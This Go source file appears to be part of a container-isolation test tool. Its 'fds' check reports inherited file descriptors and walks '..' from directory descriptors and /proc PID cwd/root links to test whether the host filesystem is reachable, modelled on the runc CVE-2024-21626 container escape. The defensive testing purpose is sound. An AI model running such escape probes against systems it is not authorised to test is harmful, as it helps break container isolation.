package main

import (
	"fmt"
	"strconv"

	"golang.org/x/sys/unix"
)

func init() { register("fds", fds) }

// fds mirrors CVE-2024-21626 (runc leaked a host directory descriptor into the
// container; `openat(fd, "..")` walked from it to the host root). It reports every
// descriptor beyond 0, 1 and 2, then walks ".." from every directory descriptor it can
// find (its open descriptors, and /proc/PID/cwd and /proc/PID/root of every visible
// process) and tries to reach HOSTREL, a path relative to the host's root that exists
// only on the host.
//
//	fds HOSTREL
//
// Attempts: "fd:N" (ok: an unexpected descriptor, with its target), "walk:WHAT" (ok: the
// walk reached HOSTREL), "fd-count" (always ok: the descriptors seen).
func fds(args []string) {
	if len(args) != 1 {
		usage()
	}
	hostRel := args[0]
	dirfd, err := unix.Open("/proc/self/fd", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		fail("fd-list", err)
		return
	}
	names, err := readDirFd(dirfd)
	unix.Close(dirfd)
	if err != nil {
		fail("fd-list", err)
		return
	}
	var open []int
	for _, n := range names {
		fd, err := strconv.Atoi(n)
		if err != nil || fd == dirfd {
			continue
		}
		open = append(open, fd)
		if fd <= 2 {
			continue
		}
		buf := make([]byte, 4096)
		k, _ := unix.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd), buf)
		ok(fmt.Sprintf("fd:%d", fd), "inherited descriptor -> %s", buf[:max(k, 0)])
	}
	ok("fd-count", "%v", open)

	for _, fd := range open {
		walkFrom(fmt.Sprintf("walk:fd%d", fd), fd, hostRel)
	}
	for _, pid := range procPids() {
		for _, f := range []string{"cwd", "root"} {
			what := fmt.Sprintf("walk:%d-%s", pid, f)
			fd, err := unix.Open(fmt.Sprintf("/proc/%d/%s", pid, f), unix.O_PATH|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
			if err != nil {
				fail(what, err)
				continue
			}
			walkFrom(what, fd, hostRel)
			unix.Close(fd)
		}
	}
}

// walkFrom climbs 64 levels of ".." from fd (only if fd is a directory) and then tries
// HOSTREL there.
func walkFrom(what string, fd int, hostRel string) {
	var st unix.Stat_t
	if err := unix.Fstat(fd, &st); err != nil {
		fail(what, err)
		return
	}
	if st.Mode&unix.S_IFMT != unix.S_IFDIR {
		fail(what, unix.ENOTDIR)
		return
	}
	cur, err := unix.Openat(fd, ".", unix.O_PATH|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		fail(what, err)
		return
	}
	for range 64 {
		up, err := unix.Openat(cur, "..", unix.O_PATH|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
		if err != nil {
			break
		}
		unix.Close(cur)
		cur = up
	}
	defer unix.Close(cur)
	var hit unix.Stat_t
	err = unix.Fstatat(cur, hostRel, &hit, 0)
	report(what, err, "reached host path %s", hostRel)
}
